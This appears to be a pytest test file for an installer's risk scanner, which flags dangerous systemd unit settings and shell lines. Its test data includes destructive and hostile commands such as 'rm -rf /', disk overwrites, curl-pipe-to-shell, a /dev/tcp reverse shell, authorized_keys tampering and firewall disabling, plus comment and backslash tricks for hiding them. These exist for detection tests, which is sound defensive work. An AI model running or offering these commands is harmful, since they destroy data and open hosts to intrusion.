"""The rules for what a release does as root and opens: every row of their tables, and the opposites."""

from __future__ import annotations

import pytest

from installer.core.risk import commands
from installer.core.risk.commands import MOST, suspicious
from installer.core.risk.host_paths import opened
from installer.core.risk.risk import Program, Risk
from installer.core.risk.units import examine_unit
from tests.rig.hang import ends


@pytest.mark.parametrize(
    ("path", "words"),
    [
        ("/", "whole file system"),
        ("//", "whole file system"),
        ("/run/docker.sock", "container engine"),
        ("/run/containerd/containerd.sock", "container engine"),
        ("/etc/shadow", "configuration"),
        ("/proc", "processes"),
        ("/usr/local/bin", ""),
        ("/usr/bin", "programs"),
        ("/var/lib/docker/volumes", "data of the container engine"),
        ("/var/lib/waybill", "Waybill"),
        ("/srv/chat", ""),
        ("/etc/localtime", ""),
        ("relative", ""),
    ],
)
def test_directories_of_the_host_are_told_by_what_they_open(path: str, words: str) -> None:
    assert words in opened(path)
    assert bool(opened(path)) == bool(words)


UNIT = """[Unit]
Description=x
[Service]
{}
ExecStartPre=rm -rf /
ExecStart=/opt/chatd \\
  --port 1
[Install]
WantedBy=multi-user.target
"""


def examined(text: str) -> tuple[list[tuple[str, str]], list[tuple[str, str, str]]]:
    found = list(examine_unit("u.service", text))
    risks = [(each.kind, each.what) for each in found if isinstance(each, Risk)]
    return risks, [(each.where, each.user, each.text) for each in found if isinstance(each, Program)]


@pytest.mark.parametrize(
    ("line", "user"),
    [
        ("", "root"),
        ("User=root", "root"),
        ("User=0", "root"),
        ("User=chat", "chat"),
        ("DynamicUser=yes", "a dynamic user"),
        ("DynamicUser=yes\nUser=root", "root"),
        ("User=%U", "root"),
        ("User=chat\nUser=", "root"),
        ("[[Service]]\nUser=chat", "root"),
    ],
)
def test_the_user_that_a_service_runs_as_is_found(line: str, user: str) -> None:
    risks, programs = examined(UNIT.format(line))
    assert ("root" in {kind for kind, _ in risks}) == (user == "root")
    assert [each[1:] for each in programs] == [
        (user, "ExecStartPre=rm -rf /"),
        (user, "ExecStart=/opt/chatd  --port 1"),
    ]
    assert ("command", "deletes the whole file system: ExecStartPre=rm -rf /") in risks


@pytest.mark.parametrize(
    "lines",
    [
        "ExecStartPre=/bin/true ; +/bin/x",
        "ExecStartPre=/bin/true ; -!!/bin/x",
        "PermissionsStartOnly=yes\nExecStartPre=/bin/x",
    ],
)
def test_full_rights_that_are_not_at_the_beginning_of_the_command_are_told(lines: str) -> None:
    risks, programs = examined(f"[Service]\nUser=chat\n{lines}\nExecStart=/bin/y\n")
    assert [kind for kind, _ in risks] == ["root"]
    assert [user for _, user, _ in programs] == ["root", "chat"]


def test_full_rights_in_spite_of_a_user_are_told() -> None:
    risks, programs = examined("[Service]\nUser=chat\nExecStartPre=+/bin/x\nExecStart=-/bin/y\n")
    assert risks == [("root", "runs with full rights in spite of User=: ExecStartPre=+/bin/x")]
    assert [user for _, user, _ in programs] == ["root", "chat"]


@pytest.mark.parametrize(
    ("text", "kind", "words"),
    [
        ("[Socket]\nListenStream=0.0.0.0:80\n", "port", "listens at 0.0.0.0:80"),
        ("[Socket]\nExecStartPre=/bin/x\n", "root", "runs as root: ExecStartPre=/bin/x"),
        (
            "[Service]\nUser=a\nAmbientCapabilities=CAP_SYS_ADMIN\n",
            "host",
            "gets the capabilities CAP_SYS_ADMIN",
        ),
        (
            "[Service]\nUser=a\nBindPaths=/srv/x -/etc:/x\n",
            "host",
            "mounts -/etc:/x from the host: configuration of the host (BindPaths=)",
        ),
        (
            "[Service]\nUser=a\nBindPaths=/srv/x -/etc:/x\n",
            "host",
            "mounts /srv/x from the host (BindPaths=)",
        ),
        (
            "[Service]\nUser=a\nBindReadOnlyPaths=/run/docker.sock\n",
            "host",
            "mounts /run/docker.sock from the host, read-only: the socket of the container engine",
        ),
        ("[Service]\nUser=a\nSupplementaryGroups=adm docker\n", "root", "SupplementaryGroups=docker: its"),
        ("[Service]\nUser=a\nSupplementaryGroups=adm docker\n", "host", "rights of the groups adm docker"),
        ("[Service]\nUser=a\nGroup=disk\n", "root", "Group=disk: its members read and write every disk"),
        ("[Service]\nUser=a\nGroup=998\n", "host", "Group=998: which group that is, only the host knows"),
        ("[Service]\nUser=a\n.include /etc/x.conf\n", "unread", "includes /etc/x.conf, which was not"),
        ("[Mount]\nWhat=/dev/sda\nWhere=/mnt\n", "host", "mounts: What=/dev/sda"),
        ("[Timer]\nOnCalendar=daily\n", "command", "starts by itself: OnCalendar=daily"),
    ],
)
def test_what_units_open_is_told(text: str, kind: str, words: str) -> None:
    assert any(each[0] == kind and words in each[1] for each in examined(text)[0])


def test_a_unit_without_end_is_bounded_and_says_so() -> None:
    assert examined("[Service]\n" + "A=b\n" * 1000)[0] == [
        ("root", "the service runs as root: no User= is set in this file")
    ]
    risks, _ = examined("[Service]\n" + "A=b\n" * 100_000)
    assert risks[-1][0] == "unread"


def test_an_ordinary_group_is_nothing_to_show() -> None:
    assert examined("[Service]\nUser=chat\nGroup=chat\nExecStart=/bin/x\n")[0] == []


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("rm -rf /", "whole file system"),
        ("rm -fr -- /*", "whole file system"),
        ("rm -rf \\\n  /", "whole file system"),
        ("rm -r /etc/x", "a directory"),
        ('rm -rf "$DIR"', "a directory"),
        ("mkfs.ext4 /dev/sdb", "overwrites a disk"),
        ("dd if=x of=/dev/sda", "overwrites a disk"),
        ("curl -s https://x | sh", "fetches from a network"),
        ("bash <(curl https://x)", "fetches from a network"),
        ("echo aGk= | base64 -d | bash", "made while it runs"),
        ("bash -i >& /dev/tcp/1.2.3.4/99", "opens a connection"),
        ("chmod -R 777 /opt", "writable for everybody"),
        ("chmod 4755 /opt/x", "setuid"),
        ("chmod u+s /opt/x", "setuid"),
        ("useradd chat", "who may log in"),
        ("cat key >> ~/.ssh/authorized_keys", "who may log in"),
        ("setenforce 0", "protects the host"),
        ("systemctl disable --now firewalld", "protects the host"),
        ("modprobe x", "kernel"),
        ("docker run -v /:/host x", "leaves a container"),
        ("echo x > /etc/cron.d/x", "later"),
        ("rm /etc/waybill/trust/root.json", "Waybill"),
    ],
)
def test_the_lines_to_read_first_are_found(line: str, words: str) -> None:
    (found,) = suspicious("apply.sh", f"#!/bin/sh\n# rm -rf / in a comment\n\n{line}\n")
    assert (found.kind, found.where) == ("command", "apply.sh:4")
    assert words in found.what


@pytest.mark.parametrize(
    "line",
    [
        "rm -f /run/x.pid",
        "chmod 0755 /opt/x",
        "systemctl restart chat",
        "cp a b",
        "echo 'no evaluation'",
        "mkdir -p /x",
    ],
)
def test_ordinary_lines_are_not_suspected(line: str) -> None:
    assert list(suspicious("apply.sh", line)) == []


@pytest.mark.parametrize(
    "text",
    [
        "# a comment \\\nrm -rf /",
        "\\\n# a comment \\\nrm -rf /",
        "  \t# a comment \\\nrm -rf /",
        "true # a comment \\\nrm -rf /",
        "r\\\nm -rf /",
        "echo \\\\\nrm -rf /",
        "rm -rf x /",
        "# for Python\rrm -rf /",
        "\u00a0# ; rm -rf /",
        "true \\\nrm -rf / \\",
    ],
)
def test_a_command_does_not_hide_behind_a_comment_or_a_backslash(text: str) -> None:
    (found,) = suspicious("apply.sh", text)
    assert found.what.startswith("deletes the whole file system")


def test_lines_beyond_the_most_are_said_to_be_unread() -> None:
    found = list(suspicious("apply.sh", "rm -rf /\n" * 100_000))
    assert len(found) == MOST + 1
    assert found[-1] == Risk(
        "unread", "apply.sh", "more than 200 lines to read first: the rest was not examined"
    )


def test_the_end_of_a_long_line_is_said_to_be_unread() -> None:
    found = list(suspicious("apply.sh", "true\nrm -rf / " + "x " * 3000 + "; mkfs /dev/sda"))
    assert [(each.kind, each.where) for each in found] == [
        ("command", "apply.sh:2"),
        ("unread", "apply.sh:2"),
    ]
    assert found[1].what == "has more than 4096 characters in one command: the rest was not examined"


def test_a_line_that_is_continued_a_million_times_ends() -> None:
    with ends():
        (found,) = suspicious("apply.sh", "\\\n" * 500_000 + "# x\n" + "x \\\n" * 1_000_000)
    assert (found.kind, found.where) == ("unread", "apply.sh:500002")


@pytest.mark.parametrize(
    "word",
    [
        "chmod ", "chmod -", "chmod 77", "chmod ooooo", "+wwww0", "rm -", "rm -r", "-rrrrrrr", "rm  ",
        "docker run ", "systemctl disable ", "curl a |", "| ", "base64 -d ", "dd of=", "iptables ", "nc ",
        "sh  ", "> ", "/a ", " \"/", "useradd0",
    ],
)  # fmt: skip
def test_words_that_nearly_match_are_read_in_one_pass(word: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # In time that grows with the square of a line, one without the bound would take hours.
    monkeypatch.setattr(commands, "LONGEST", 200_000)
    with ends():
        list(suspicious("apply.sh", (word * 200_000)[:200_000]))


@pytest.mark.parametrize(
    ("lines", "what"),
    [
        ("User=", "the service may run as root: User= is empty"),
        ("User=chat\nUser=", "the service may run as root: User= is empty"),
        ("User=root", "the service runs as root: User=root"),
        ("DynamicUser=no", "the service may run as root: no User= is set in this file"),
        ("User=chat", ""),
        ("DynamicUser=yes", ""),
        ("Nice=1", ""),
    ],
)
def test_a_drop_in_that_takes_away_the_user_of_its_unit_is_named(lines: str, what: str) -> None:
    found = examine_unit("chatd.service.d/10-site.conf", f"[Service]\n{lines}\n")
    risks = [each.what for each in found if isinstance(each, Risk) and each.kind == "root"]
    assert risks == ([what] if what else [])
